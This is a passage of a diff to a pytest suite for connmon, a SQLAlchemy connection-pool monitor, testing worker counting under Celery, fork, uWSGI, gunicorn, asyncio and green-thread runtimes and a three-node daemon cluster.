+        write_wsgi_app(tmp_path, daemon)
+        (tmp_path / "connmon_celery_app.py").write_text(
+            CELERY_APP.format(config=config))
+        self.client = celery.Celery("connmon-test-client")
+        self.client.conf.update(config)
+        super().__init__(tmp_path, [
+            "celery", "-A", "connmon_celery_app", "worker",
+            "--pool=prefork", f"--concurrency={concurrency}",
+            "--without-gossip", "--without-mingle", "--without-heartbeat",
+            "--loglevel=WARNING"])
+
+    def answers(self, path: str, concurrency: int = 8) -> List[dict]:
+        """``concurrency`` tasks at once; the answers that came within
+        ten seconds (a task that failed fails the test)."""
+        import celery.exceptions
+        results = [self.client.send_task("answer", [path])
+                   for _ in range(concurrency)]
+        deadline = time.monotonic() + 10
+        replies = []
+        for result in results:
+            try:
+                replies.append(result.get(
+                    timeout=max(0.1, deadline - time.monotonic()),
+                    interval=0.02))
+            except celery.exceptions.TimeoutError:
+                pass
+        return replies
+
+    def stop(self) -> None:
+        super().stop()
+        self.client.close()
+
+
+def test_celery_prefork_workers_are_counted(tmp_path):
+    require_database(MYSQL_URL)
+    require_module("celery")
+    daemon = Daemon(tmp_path)
+    try:
+        check_server(CeleryWorker(tmp_path, daemon, 3), daemon, "celery", 3)
+    finally:
+        daemon.stop()
+
+
+# A parent that uses its engine, then forks a worker with C fork() (as
+# uWSGI does: no Python at-fork hook runs) or with os.fork(); the worker
+# holds two connections of its own.
+FORK_SCRIPT = r'''
+import ctypes, os, sys, time
+import sqlalchemy as sa
+
+engine = sa.create_engine(sys.argv[1], pool_size=4, max_overflow=0)
+parent_held = engine.connect()
+sys.stdin.readline()   # the test has seen the parent: fork now
+if sys.argv[2] == "c":
+    # PyDLL: the GIL stays held across fork(), so the child owns it
+    pid = ctypes.PyDLL(None).fork()
+else:
+    pid = os.fork()
+if pid == 0:
+    held = [engine.connect() for _ in range(2)]
+    while True:
+        time.sleep(60)
+print(pid, flush=True)
+while True:
+    time.sleep(60)
+'''
+
+
+@pytest.mark.parametrize("fork", ["c", "os"])
+def test_forked_child_counted_and_killed_parent_leaves_at_once(
+        daemon, tmp_path, fork):
+    """A child of C fork() notices its new pid and starts its own sender;
+    either child closes the parent's daemon socket, so the parent,
+    SIGKILLed, leaves the counts at once (not after the 30 s heartbeat)."""
+    parent = Script(tmp_path, "forker.py", FORK_SCRIPT,
+                    f"sqlite:///{tmp_path}/f.sqlite?plugin=connmon"
+                    f"&connmon_addr={daemon.address}", fork)
+    try:
+        daemon.wait_row("forker.py", nproc=1, conn=1, ckout=1)
+        # (a C fork in the middle of the parent's busy spell is noticed at
+        # the child's first event after connmon.WAKE_AGAIN: see README)
+        time.sleep(3 * connmon.WAKE_AGAIN)
+        parent.send("fork")
+        (child,) = map(int, parent.line())
+        row = daemon.wait_row("forker.py", procs=True, nproc=2, conn=3,
+                              ckout=3)
+        assert {p["pid"]: (p["conn"], p["ckout"], p["limit"])
+                for p in row["procs"]} == {parent.proc.pid: (1, 1, 4),
+                                           child: (2, 2, 4)}
+        parent.proc.kill()
+        row = daemon.wait_row("forker.py", procs=True, nproc=1,
+                              conn=2, ckout=2)
+        assert [p["pid"] for p in row["procs"]] == [child]
+    finally:
+        parent.stop()
+
+
+FIRST_USE_SCRIPT = r'''
+import os, sys
+import sqlalchemy as sa
+import connmon
+
+def threads():
+    return len(os.listdir("/proc/self/task"))
+
+engine = sa.create_engine(sys.argv[1], pool_size=2)
+print("made", threads(), len(connmon._senders), flush=True)
+pid = os.fork()   # on Python 3.12+ this warns if other threads exist
+if pid == 0:
+    os._exit(0)
+os.waitpid(pid, 0)
+with engine.connect() as conn:
+    conn.execute(sa.text("SELECT 1"))
+print("used", threads(), flush=True)
+sys.stdin.readline()
+'''
+
+
+def test_no_thread_until_the_first_pool_event(daemon, tmp_path):
+    """An app that makes its engine and forks before using it has no
+    thread of connmon's at the fork (Python 3.12 warns about those)."""
+    app = Script(tmp_path, "threads.py", FIRST_USE_SCRIPT,
+                 f"sqlite:///{tmp_path}/t.sqlite?plugin=connmon"
+                 f"&connmon_addr={daemon.address}",
+                 python=("-W", "error::DeprecationWarning"))
+    try:
+        assert app.line() == ["made", "1", "1"]
+        assert app.line() == ["used", "3"]
+        daemon.wait_row("threads.py", nproc=1, conn=1, ckout=0)
+    finally:
+        app.stop()
+
+
+# A uWSGI master, as connmon sees one: the "uwsgi" module the server
+# embeds says worker 0, mule 0.  The application churns its pool there;
+# nothing may grow, and the counts are right once it becomes a worker.
+MASTER_SCRIPT = r'''
+import sys, types
+import sqlalchemy as sa
+uwsgi = sys.modules["uwsgi"] = types.ModuleType("uwsgi")
+uwsgi.worker_id = lambda: worker
+uwsgi.mule_id = lambda: 0
+uwsgi.i_am_the_spooler = lambda: None
+worker = 0
+import connmon
+
+engine = sa.create_engine(sys.argv[1], pool_size=3, max_overflow=0)
+held = [engine.connect(), engine.connect()]
+(sender,) = connmon._senders.values()
+longest = 0
+for _ in range(60000):
+    engine.connect().close()
+    longest = max(longest, len(sender.events))
+print(len(sender.threads), longest, connmon.MAX_QUEUED, flush=True)
+worker = 1   # the loading process becomes worker 1 (uWSGI without --master)
+engine.connect().close()
+print(len(sender.threads), flush=True)
+sys.stdin.readline()
+'''
+
+
+def test_queue_bounded_while_no_thread_may_start(daemon, tmp_path):
+    master = Script(tmp_path, "master.py", MASTER_SCRIPT,
+                    f"sqlite:///{tmp_path}/m.sqlite?plugin=connmon"
+                    f"&connmon_addr={daemon.address}")
+    try:
+        started, longest, cap = map(int, master.line(timeout=120))
+        assert started == 0
+        assert cap // 2 < longest <= cap
+        assert master.line() == ["2"]
+        # Nothing was lost: 60,000 checkouts folded on the way.
+        row = daemon.wait_row("master.py", nproc=1, conn=3, ckout=2)
+        assert row["limit"] == 3
+    finally:
+        master.stop()
+
+
+# An asyncio engine (aiomysql) with ?plugin=connmon: tasks hold and churn
+# connections; the pool's own counts are the truth.
+ASYNC_SCRIPT = r'''
+import asyncio, os, sys
+import sqlalchemy as sa
+from sqlalchemy.ext.asyncio import create_async_engine
+
+async def main():
+    engine = create_async_engine(sys.argv[1], pool_size=6, max_overflow=0)
+    held = []
+    for _ in range(3):
+        held.append(await engine.connect())
+        await held[-1].execute(sa.text("SELECT 1"))
+
+    async def churn():
+        for _ in range(20):
+            async with engine.connect() as conn:
+                await conn.execute(sa.text("SELECT 1"))
+    await asyncio.gather(*(churn() for _ in range(3)))
+    pool = engine.sync_engine.pool
+    print(os.getpid(), pool.checkedout() + pool.checkedin(),
+          pool.checkedout(), flush=True)
+    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.readline)
+
+asyncio.run(main())
+'''
+
+
+# An app patched by eventlet or gevent, reporting over TLS with the apps'
+# secret, that holds two connections and then blocks its hub (a blocking
+# read of stdin on the patched main thread): connmon's own threads, real
+# ones, keep the daemon's picture right meanwhile.
+GREEN_TLS_SCRIPT = r"""
+import logging, sys
+if sys.argv[1] == "eventlet":
+    import eventlet
+    eventlet.monkey_patch()
+else:
+    from gevent import monkey
+    monkey.patch_all()
+import sqlalchemy as sa
+
+logged = []
+
+class Keep(logging.Handler):
+    def emit(self, record):
+        logged.append(record.getMessage())
+
+logging.getLogger("connmon").addHandler(Keep())
+logging.getLogger("connmon").setLevel(logging.INFO)
+engine = sa.create_engine(sys.argv[2], pool_size=4)
+held = [engine.connect() for _ in range(2)]
+for conn in held:
+    conn.exec_driver_sql("SELECT 1")
+print("ready", flush=True)
+sys.stdin.readline()
+print("logged", repr(logged).replace(" ", "_"), flush=True)
+"""
+
+
+@pytest.mark.parametrize("runtime", ["eventlet", "gevent"])
+def test_green_app_reports_over_tls_while_its_hub_is_blocked(tmp_path,
+                                                             runtime):
+    ca = CertificateAuthority(tmp_path, "ca")
+    certfile, keyfile = ca.issue("server", "127.0.0.1")
+    good = secret_file(tmp_path, "good.secret")
+    daemon = SecureDaemon(tmp_path, extra_config=(
+        f"auth_secret_file: {good}\nssl_certfile: {certfile}\n"
+        f"ssl_keyfile: {keyfile}\nssl_cafile: {ca.cafile}\n"))
+    trusting = client_config(tmp_path, daemon, "trusting.cfg", (
+        f"auth_secret_file: {good}\nssl_cafile: {ca.cafile}\n"))
+    app = Script(tmp_path, "green_tls.py", GREEN_TLS_SCRIPT, runtime,
+                 sqlite_app_url(tmp_path, f"connmon_config={trusting}"
+                                "&connmon_service=test"))
+    try:
+        assert app.line() == ["ready"]
+        row = daemon.wait_row("green_tls.py", procs=True, conn=2, ckout=2)
+        assert [p["pid"] for p in row["procs"]] == [app.proc.pid]
+        app.send("report")
+        kind, logged = app.line()
+        assert kind == "logged"
+        # Only the one line that says it connected: no error, no retry.
+        assert logged == ('["connmon:_connected_to_connmond_service_'
+                          "'test'_(node_node1)\"]")
+    finally:
+        app.stop()
+        daemon.stop()
+
+
+@pytest.mark.parametrize("form", ["aiomysql-plugin", "psycopg-dialect"])
+def test_asyncio_engine_is_counted(daemon, tmp_path, form):
+    """?plugin=connmon on an asyncio driver's URL, or the <driver>_connmon
+    name of a driver that has an asyncio dialect too."""
+    if form == "aiomysql-plugin":
+        require_database(MYSQL_URL)
+        url = (MYSQL_URL.replace("+pymysql", "+aiomysql")
+               + f"?plugin=connmon&connmon_addr={daemon.address}")
+    else:
+        require_database(POSTGRESQL_URL)
+        url = monitored(POSTGRESQL_URL.replace("+psycopg2", "+psycopg"),
+                        daemon)
+    app = Script(tmp_path, "asyncapp.py", ASYNC_SCRIPT, url)
+    try:
+        pid, conn, ckout = map(int, app.line())
+        assert ckout == 3 and conn >= 4
+        # (the checkout count may come a message after the connections:
+        # counters alone wait for the events to stop: Sender._fold_batch)
+        row = daemon.wait_row("asyncapp.py", procs=True, nproc=1, conn=conn,
+                              ckout=ckout, ckout_total=3 + 3 * 20)
+        assert [(p["pid"], p["limit"]) for p in row["procs"]] == [(pid, 6)]
+    finally:
+        app.stop()
+
+
+# Many threads at once at the first pool events of a fresh sender, and of
+# a child of C fork() (no at-fork hook, as uWSGI forks), the GIL switched
+# often to make the most of any race: one reset, one pair of threads.
+BURST_SCRIPT = r'''
+import ctypes, os, sys, threading, time
+import sqlalchemy as sa
+import connmon
+
+THREADS = 32
+engine = sa.create_engine(sys.argv[1], pool_size=THREADS, max_overflow=0)
+if sys.argv[2] == "c-fork":
+    engine.connect().close()   # the parent's own threads run
+    time.sleep(3 * connmon.WAKE_AGAIN)   # (see the fork test)
+    if ctypes.PyDLL(None).fork():   # the GIL stays held: the child owns it
+        sys.stdin.readline()
+        sys.exit()
+sys.setswitchinterval(1e-6)
+at_once = threading.Barrier(THREADS)
+held = threading.Barrier(THREADS)
+
+def first_use():
+    at_once.wait()
+    with engine.connect() as conn:
+        conn.execute(sa.text("SELECT 1"))
+        held.wait()
+
+users = [threading.Thread(target=first_use) for _ in range(THREADS)]
+for user in users:
+    user.start()
+for user in users:
+    user.join()
+sys.setswitchinterval(0.005)
+for user in users:   # until the joined OS threads are gone
+    while os.path.exists(f"/proc/self/task/{user.native_id}"):
+        time.sleep(0.01)
+(sender,) = connmon._senders.values()
+print(os.getpid(), len(os.listdir("/proc/self/task")) - 1,
+      sorted(str(t.native_id) for t in sender.threads) == sorted(
+          t for t in os.listdir("/proc/self/task") if int(t) != os.getpid()),
+      flush=True)
+sys.stdin.readline()
+'''
+
+
+@pytest.mark.parametrize("process", ["fresh", "c-fork"])
+def test_threads_at_the_first_pool_event_start_one_sender(daemon, tmp_path,
+                                                          process):
+    """32 threads using a pool for the first time at the same instant, in
+    a fresh process or a child of C fork(): exactly one pair of connmon
+    threads, one connection to connmond, and the pool's counts."""
+    app = Script(tmp_path, "burst.py", BURST_SCRIPT,
+                 f"sqlite:///{tmp_path}/b.sqlite?plugin=connmon"
+                 f"&connmon_addr={daemon.address}", process)
+    try:
+        pid, threads, ours = app.line()
+        assert (threads, ours) == ("2", "True")
+        procs = {int(pid): (32, 0)}
+        if process == "c-fork":
+            procs[app.proc.pid] = (1, 0)   # the parent's idle one
+        row = daemon.wait_row("burst.py", procs=True, nproc=len(procs),
+                              conn=sum(c for c, _ in procs.values()),
+                              ckout=0)
+        assert sorted((p["pid"], (p["conn"], p["ckout"]))
+                      for p in row["procs"]) == sorted(procs.items())
+        log = daemon.log.read_text()
+        assert "another live connection" not in log, log
+    finally:
+        app.stop()
+
+
+def children_of(pid: int) -> List[int]:
+    """The live child processes of ``pid`` (a server's workers)."""
+    return [int(name) for name in os.listdir("/proc") if name.isdigit()
+            and _parent_pid(int(name)) == pid]
+
+
+def threads_of(pid: int) -> Tuple[int, int]:
+    """How many OS threads process ``pid`` has, and how many of them a
+    SIGTERM sent to the process may be delivered to (not blocking it)."""
+    tasks, accepting = 0, 0
+    for tid in os.listdir(f"/proc/{pid}/task"):
+        try:
+            with open(f"/proc/{pid}/task/{tid}/status") as status:
+                blocked = int(re.search(r"^SigBlk:\s*(\w+)$", status.read(),
+                                        re.M).group(1), 16)
+        except OSError:   # a thread that ended meanwhile
+            continue
+        tasks += 1
+        accepting += not blocked & (1 << (signal.SIGTERM - 1))
+    return tasks, accepting
+
+
+class WorkersServer(Server):
+    """A Server that notes, as it is stopped, its workers' threads (see
+    threads_of) and the pids connmond lists for ``progname``."""
+
+    def __init__(self, tmp_path, argv: List[str], port: int,
+                 daemon: Optional[Daemon] = None, progname: str = ""):
+        super().__init__(tmp_path, argv, port)
+        self.daemon, self.progname = daemon, progname
+        self.threads: Dict[int, Tuple[int, int]] = {}
+        self.listed: List[int] = []
+
+    def stop(self) -> None:
+        if self.proc.poll() is None:
+            self.threads = {pid: threads_of(pid)
+                            for pid in children_of(self.proc.pid)}
+            if self.daemon:
+                row = self.daemon.row(self.progname, procs=True) or {}
+                self.listed = [p["pid"] for p in row.get("procs", [])]
+        super().stop()
+
+    def rush(self, clients: int = 48) -> None:
+        """``clients`` requests at once from the moment it starts (each
+        tried again until the server listens), all answered."""
+        answered = []
+
+        def client():
+            deadline = time.monotonic() + 30
+            while time.monotonic() < deadline:
+                try:
+                    answered.append(self.get("/work"))
+                    return
+                except OSError:
+                    time.sleep(0.01)
+        rushing = [threading.Thread(target=client) for _ in range(clients)]
+        for thread in rushing:
+            thread.start()
+        for thread in rushing:
+            thread.join(40)
+        assert len(answered) == clients, self.log_tail()
+
+    def serve_all(self, workers: int) -> None:
+        """Until every worker has answered (no check of counts)."""
+        pids: set = set()
+        wait_until(lambda: pids.update(r["pid"] for r in self.answers(
+            "/work")) or len(pids) == workers, 30, "every worker to answer")
+
+
+def plain_wsgi_app(tmp_path, use_at_load: bool) -> pathlib.Path:
+    """The WSGI application, the same but not monitored, in a folder of
+    its own."""
+    folder = tmp_path / "plain"
+    folder.mkdir(exist_ok=True)
+    path = folder / "connmon_wsgi_app.py"
+    path.write_text(WSGI_APP.format(patch="", url=MYSQL_URL,
+                                    pool_size=POOL_SIZE,
+                                    use_at_load=use_at_load))
+    return path
+
+
+def uwsgi_argv(port: int, app: pathlib.Path, *flags: str) -> List[str]:
+    return ["uwsgi", "--http-socket", f"127.0.0.1:{port}", "--master",
+            "--processes", "2", "--threads", "4", "--wsgi-file", str(app),
+            "--die-on-term", "--disable-logging", *flags]
+
+
+# The workers' threads without connmon, per (flags, use_at_load): measured
+# once a run.
+_plain_uwsgi_threads: Dict[tuple, set] = {}
+
+
+def plain_uwsgi_threads(tmp_path, flags: tuple, use_at_load: bool) -> set:
+    key = (flags, use_at_load)
+    if key not in _plain_uwsgi_threads:
+        app = plain_wsgi_app(tmp_path, use_at_load)
+        port = free_port()
+        server = WorkersServer(app.parent, uwsgi_argv(port, app, *flags),
+                               port)
+        try:
+            server.rush()
+            server.serve_all(2)
+        finally:
+            server.stop()
+        _plain_uwsgi_threads[key] = set(server.threads.values())
+    return _plain_uwsgi_threads[key]
+
+
+@pytest.mark.parametrize("flags, use_at_load, start", [
+    ((), False, 0), ((), False, 1), ((), True, 0), ((), True, 1),
+    (("--enable-threads",), True, 0)])
+def test_uwsgi_threads_first_requests_start_connmon_once(
+        tmp_path, flags, use_at_load, start):
+    """uWSGI --threads 4, two workers, 48 requests at once from the start:
+    each worker has exactly connmon's two threads more than without
+    connmon, and they take none of the server's signals; connmond's
+    picture per pid is each worker's pool, the master is not listed, and
+    no descriptor was used after it was closed."""
+    require_database(MYSQL_URL)
+    plain = plain_uwsgi_threads(tmp_path, flags, use_at_load)
+    assert len(plain) == 1, plain   # (tasks, accepting SIGTERM) per worker
+    ((tasks, accepting),) = plain
+    daemon = Daemon(tmp_path)
+    try:
+        app = write_wsgi_app(tmp_path, daemon, use_at_load=use_at_load)
+        port = free_port()
+        server = WorkersServer(tmp_path, uwsgi_argv(port, app, *flags), port,
+                               daemon, "uwsgi")
+        try:
+            server.rush()
+        except AssertionError:
+            server.stop()
+            raise
+        check_server(server, daemon, "uwsgi", 2)
+        assert len(server.threads) == 2, server.threads
+        assert set(server.threads.values()) == {(tasks + 2, accepting)}, (
+            f"without connmon {plain}; with it {server.threads}")
+        assert sorted(server.listed) == sorted(server.threads)
+        logs = server.log.read_text() + daemon.log.read_text()
+        for trouble in ("Bad file descriptor", "another live connection"):
+            assert trouble not in logs, logs[-3000:]
+    finally:
+        daemon.stop()
+
+
+def stop_under_load(server: WorkersServer, bound: float,
+                    daemon: Optional[Daemon] = None,
+                    progname: str = "") -> float:
+    """Once both workers of ``server`` answer (and ``daemon`` lists them
+    under ``progname``: connmon runs in each), SIGTERM its master while
+    eight clients keep asking; the seconds until it has exited, at most
+    ``bound`` (past it, the server is killed and the test fails)."""
+    try:
+        server.serve_all(2)
+        if daemon:
+            daemon.wait_row(progname, nproc=2)
+    except AssertionError:
+        server.stop()
+        raise
+    stopping = threading.Event()
+    answered = []
+
+    def client():
+        while not stopping.is_set():
+            try:
+                answered.append(server.get("/work"))
+            except (OSError, ValueError):   # refused, cut off: stopping
+                time.sleep(0.01)
+    clients = [threading.Thread(target=client) for _ in range(8)]
+    for thread in clients:
+        thread.start()
+    try:
+        wait_until(lambda: len(answered) >= 16, 20, "clients served")
+        began = time.monotonic()
+        server.proc.send_signal(signal.SIGTERM)
+        try:
+            server.proc.wait(bound)
+        except subprocess.TimeoutExpired:
+            raise AssertionError(f"still running {bound:.1f} s after "
+                                 f"SIGTERM\n{server.log_tail()}") from None
+        return time.monotonic() - began
+    finally:
+        stopping.set()
+        for thread in clients:
+            thread.join(10)
+        server.stop()
+
+
+def stop_server_argv(kind: str, port: int, app: pathlib.Path) -> List[str]:
+    if kind == "uwsgi":
+        return uwsgi_argv(port, app)
+    return ["gunicorn", "-w", "2", "-k", "gthread", "--threads", "4", "-b",
+            f"127.0.0.1:{port}", "connmon_wsgi_app:application"]
+
+
+# (Twelve and six stops, not twenty: a start and stop of a server under
+# load takes 3 to 8 s on a busy two-core machine.)
+@pytest.mark.parametrize("kind, stops", [("uwsgi", 12), ("gunicorn", 6)])
+def test_server_with_connmon_stops_as_fast_as_without(tmp_path, kind,
+                                                      stops):
+    """Stops under load of a server of two workers with four threads
+    each, with connmon, each within the longest of two stops of the
+    same server without connmon plus a margin (15 s: a shared machine's
+    load makes a stop's time vary) far below what a stop left to a signal
+    on one of connmon's threads took (uWSGI's 60 s "NO MERCY", gunicorn's
+    30 s graceful timeout)."""
+    require_database(MYSQL_URL)
+    plain_app = plain_wsgi_app(tmp_path, use_at_load=False)
+    plain = []
+    for _ in range(2):
+        port = free_port()
+        server = WorkersServer(plain_app.parent, stop_server_argv(
+            kind, port, plain_app), port)
+        plain.append(stop_under_load(server, 30))
+    bound = max(plain) + 15
+    daemon = Daemon(tmp_path)
+    try:
+        app = write_wsgi_app(tmp_path, daemon)
+        for _ in range(stops):
+            port = free_port()
+            server = WorkersServer(tmp_path, stop_server_argv(kind, port, app),
+                                   port)
+            stop_under_load(server, bound, daemon, kind)
+            wait_until(lambda: (daemon.row(kind) or {}).get("nproc") == 0,
+                       10, "the stopped workers to leave the picture")
+        log = server.log.read_text()
+        for trouble in ("Traceback", "connmon:", "MERCY", "SIGKILL"):
+            assert trouble not in log, log[-3000:]
+    finally:
+        daemon.stop()
+
+
+# ===========================================================================
+# The console
+#
+# The top-like console in a real terminal: rows against the truth, colours,
+# sorting, filter, drill-down, resizing, failover, the fleet view, history,
+# thresholds, keys; the layout's plan and cutter at 80 and 40 columns;
+# --once, --json and the demo.
+# ===========================================================================
 
 
 def test_console_once_json_and_table(daemon, apps, tmp_path):
@@ -1095,1280 +3187,6 @@ def test_console_once_json_and_table(daemon, apps, tmp_path):
         timeout=30)
     assert "Conn 1/1" in result.stdout
     assert "console_app.py" in result.stdout
-
-
-def test_console_exits_nonzero_when_no_node_answers(tmp_path):
-    port = free_port()
-    result = subprocess.run(
-        [sys.executable, "-m", "connmon_console", "--once", "--json", "-H",
-         f"127.0.0.1:{port}"], cwd=HERE, env=CHILD_ENV, capture_output=True,
-        text=True,
-        timeout=30)
-    assert result.returncode == 1
-    assert (f"connmon: cannot get a snapshot from 127.0.0.1:{port}: no "
-            f"connmond answered (127.0.0.1:{port}:") in result.stderr
-
-
-def test_garbage_is_refused_and_others_carry_on(daemon, apps, tmp_path):
-    app = apps(f"sqlite:///{tmp_path}/g.sqlite?plugin=connmon"
-               f"&connmon_addr={daemon.address}", "honest.py")
-    app("hold 1")
-    daemon.wait_row("honest.py", conn=1, ckout=1)
-    for garbage in (b"\x00\xffnot json\n", b'{"op":"hello","version":99}\n',
-                    b"[1,2]\n", b'{"op": "hello", "role": "app"}\n'):
-        with socket.create_connection(("127.0.0.1", daemon.port), 5) as sock:
-            sock.settimeout(5)
-            rfile = sock.makefile("rb")
-            assert connmon.read_message(rfile)["op"] == "welcome"
-            sock.sendall(garbage)
-            reply = connmon.read_message(rfile)
-            assert reply["op"] == "error", reply
-            assert rfile.readline() == b""   # and the daemon hung up
-    app("hold 1")
-    daemon.wait_row("honest.py", conn=2, ckout=2)
-    assert "not JSON" in daemon.log.read_text()
-
-
-def test_sigterm_stops_the_daemon_cleanly(tmp_path):
-    daemon = Daemon(tmp_path)
-    daemon.kill(signal.SIGTERM)
-    assert daemon.proc.returncode == 0
-    assert "connmond stopping" in daemon.log.read_text()
-
-
-# ---------------------------------------------------------------------------
-# HA cluster (issue 4): three real connmond nodes on loopback
-# ---------------------------------------------------------------------------
-
-
-class ThreeNodes:
-    """Nodes node1..node3 of service "test", each its own connmond."""
-
-    def __init__(self, tmp_path, extra_config: str = ""):
-        ports = [free_port() for _ in range(3)]
-        self.config = tmp_path / "cluster.cfg"
-        self.config.write_text(
-            "[connmon_service_test]\nname: test\nnodes:\n" + "".join(
-                f"    node{i} hostname=127.0.0.1:{port} bind=127.0.0.1\n"
-                for i, port in enumerate(ports, 1)) + extra_config)
-        self.nodes = {f"node{i}": Daemon(tmp_path, port, config=self.config,
-                                         node=f"node{i}")
-                      for i, port in enumerate(ports, 1)}
-        self.down: set = set()
-        self.last_seen: tuple = ()
-
-    def url(self, tmp_path, name: str) -> str:
-        """An SQLite URL monitored through the service (any node)."""
-        return (f"sqlite:///{tmp_path}/{name}.sqlite?plugin=connmon"
-                f"&connmon_service=test&connmon_config={self.config}")
-
-    def kill(self, name: str) -> None:
-        self.nodes[name].kill()
-        self.down.add(name)
-
-    def restart(self, name: str) -> None:
-        self.nodes[name].start()
-        self.down.discard(name)
-
-    def live(self) -> List[Daemon]:
-        return [d for n, d in self.nodes.items() if n not in self.down]
-
-    def stop(self) -> None:
-        for daemon in self.nodes.values():
-            daemon.stop()
-
-    def converged(self, truth: Dict[str, tuple], loose: tuple = ()
-                  ) -> Optional[List[dict]]:
-        """Every live node's snapshots if all show ``truth``: progname ->
-        (nproc, conn, ckout), with only (nproc, conn) compared for the
-        programs in ``loose`` (busy ones, whose checkouts come and go);
-        every live peer up; else None."""
-        snapshots = [d.snapshot() for d in self.live()]
-        for snapshot in snapshots:
-            seen = {row["progname"]: (row["nproc"], row["conn"], row["ckout"])
-                    for row in snapshot["rows"] if row["connected"]}
-            for name in loose:
-                seen[name] = seen.get(name, (0, 0, 0))[:2]
-            up = {n for n, is_up in snapshot["peers"].items() if is_up}
-            self.last_seen = (snapshot["node"], seen, up)
-            if seen != truth or up != {d.node for d in self.live()
-                                       } - {snapshot["node"]}:
-                return None
-        return snapshots
-
-
-@pytest.fixture
-def cluster(tmp_path):
-    nodes = ThreeNodes(tmp_path)
-    yield nodes
-    nodes.stop()
-
-
-def wait_converged(cluster: ThreeNodes, truth: Dict[str, tuple],
-                   loose: tuple = (), timeout: float = 20.0) -> List[dict]:
-    try:
-        return wait_until(lambda: cluster.converged(truth, loose), timeout,
-                          f"every live node to show {truth}")
-    except AssertionError as err:
-        raise AssertionError(f"{err}; node, rows, peers up: "
-                             f"{cluster.last_seen}") from None
-
-
-def test_largest_attach_fits_a_peer_message():
-    """A process at every cap the daemon keeps, every text at its longest
-    in characters JSON writes as 12 bytes each, told to a peer whole."""
-    longest = "\U0001F600" * connmon.MAX_NAME
-    big_int, age = (1 << 62) - 1, 1e9 - 1e-6
-    proc = connmon.ProcessState("i" * connmon.MAX_NAME, longest, longest,
-                                big_int, session=big_int)
-    now = time.monotonic()
-    for n in range(connmon.MAX_PROCESS_CONNECTIONS):
-        conn = big_int - n
-        proc.conns[conn] = big_int
-        proc.checked_out[conn] = now - age
-        proc.holders[conn] = (big_int - n % connmon.MAX_SITES, None, None)
-    for n in range(connmon.MAX_SITES):
-        proc.site_names[big_int - n] = longest
-        proc.held_at[big_int - n] = longest
-    for n in range(connmon.MAX_PROCESS_POOLS):
-        proc.pools[big_int - n] = big_int
-        proc.endpoints[big_int - n] = dict(zip(
-            connmon.ENDPOINT_FIELDS,
-            (longest, longest, big_int, longest, longest)))
-        proc.waiting[big_int - n] = (big_int, now - age)
-    proc.checkouts = proc.holds = big_int
-    message = connmon_server.attach_message(proc)
-    assert len(connmon.encode(
-        message, connmon_server.MAX_PEER_MESSAGE_BYTES)) > 16 << 20
-
-
-def test_a_process_larger_than_a_message_reaches_every_peer(cluster):
-    """An app's state may outgrow one message (it sends it in parts): a
-    node tells it whole to a peer that comes back, and forwards an
-    update of the app's at the very limit; the link is never cut."""
-    node1 = cluster.nodes["node1"]
-    app = SyntheticApp(node1, "big-host", "big.py")
-    emoji = "\U0001F600" * 250   # 3,000 bytes each in JSON
-
-    def add_sites(count: int) -> None:
-        first = len(app.state.site_names) + 1
-        for number in range(first, first + count):
-            app.state.site_names[number] = f"{emoji}{number:05d}"
-    for _ in range(2):
-        add_sites(300)
-        app.send()
-    # One update as close to the limit as it gets: grown by sites, then
-    # by ASCII characters at the end of the last name.
-    app.event(connmon.CONNECT, 1, 1)
-    app.event(connmon.CHECKOUT, 1)
-
-    def size() -> int:
-        return len(json.dumps(app.state.message(time.monotonic(), app.sent),
-                              separators=(",", ":"))) + 1
-    while size() < connmon.MAX_MESSAGE_BYTES - 4000:
-        add_sites(1)
-    last = len(app.state.site_names)
-    while size() < connmon.MAX_MESSAGE_BYTES - 50:
-        app.state.site_names[last] += "x" * min(
-            255 - len(app.state.site_names[last]),
-            connmon.MAX_MESSAGE_BYTES - 50 - size())
-        if len(app.state.site_names[last]) == 255:
-            add_sites(1)
-            last = len(app.state.site_names)
-            app.state.site_names[last] = "s"
-    assert size() <= connmon.MAX_MESSAGE_BYTES
-    app.send()
-    truth = {"big.py": (1, 1, 1)}
-    wait_converged(cluster, truth)
-    cluster.kill("node2")
-    cluster.restart("node2")   # node1 attaches the whole process to it
-    wait_converged(cluster, truth)
-    assert "cannot send" not in node1.log.read_text()
-    app.conn.close()
-
-
-def test_cluster_every_node_shows_the_whole_picture(cluster, apps, tmp_path):
-    pinned = [apps(f"sqlite:///{tmp_path}/p{i}.sqlite?plugin=connmon"
-                   f"&connmon_addr={d.address}", f"pinned{i}.py")
-              for i, d in enumerate(cluster.live(), 1)]
-    anywhere = [apps(cluster.url(tmp_path, f"a{i}"), f"anywhere{i}.py")
-                for i in range(1, 3)]
-    for i, app in enumerate(pinned + anywhere, 1):
-        app(f"hold {i}")
-    pinned[0]("release 1")
-    truth = {"pinned1.py": (1, 1, 0), "pinned2.py": (1, 2, 2),
-             "pinned3.py": (1, 3, 3), "anywhere1.py": (1, 4, 4),
-             "anywhere2.py": (1, 5, 5)}
-    snapshots = wait_converged(cluster, truth)
-    # Each pinned app is attached where it was sent; all nodes agree.
-    for i, snapshot in enumerate(snapshots, 1):
-        assert snapshot["node"] == f"node{i}"
-    row = cluster.nodes["node3"].row("pinned2.py", procs=True)
-    assert [p["node"] for p in row["procs"]] == ["node2"]
-    maxima = [{r["progname"]: (r["maxnproc"], r["maxconn"], r["maxckout"])
-               for r in s["rows"]} for s in snapshots]
-    assert maxima[0] == maxima[1] == maxima[2]
-    assert maxima[0]["pinned1.py"] == (1, 1, 1)
-
-
-def test_cluster_node_killed_under_load_and_restarted(cluster, apps,
-                                                      tmp_path):
-    held = {f"app{i}.py": i for i in range(1, 5)}
-    started = {name: apps(cluster.url(tmp_path, name), name)
-               for name in held}
-    for name, n in held.items():
-        started[name](f"hold {n}")
-    busy = apps(cluster.url(tmp_path, "busy"), "busy.py")
-    busy("busy")
-    truth = {name: (1, n, n) for name, n in held.items()}
-    truth["busy.py"] = (1, 1)
-    wait_converged(cluster, truth, loose=("busy.py",))
-
-    # Kill the node most apps are attached to.
-    row_nodes = [p["node"] for r in cluster.nodes["node1"].snapshot(
-        procs=True)["rows"] for p in r["procs"]]
-    victim = max(sorted(cluster.nodes), key=row_nodes.count)
-    assert row_nodes.count(victim) >= 1
-    cluster.kill(victim)
-    for name, n in held.items():   # the apps keep changing meanwhile
-        started[name]("hold 1")
-        truth[name] = (1, n + 1, n + 1)
-    snapshots = wait_converged(cluster, truth, loose=("busy.py",))
-    for snapshot in snapshots:
-        assert snapshot["peers"][victim] is False
-        assert victim not in {p["node"] for r in cluster.nodes[
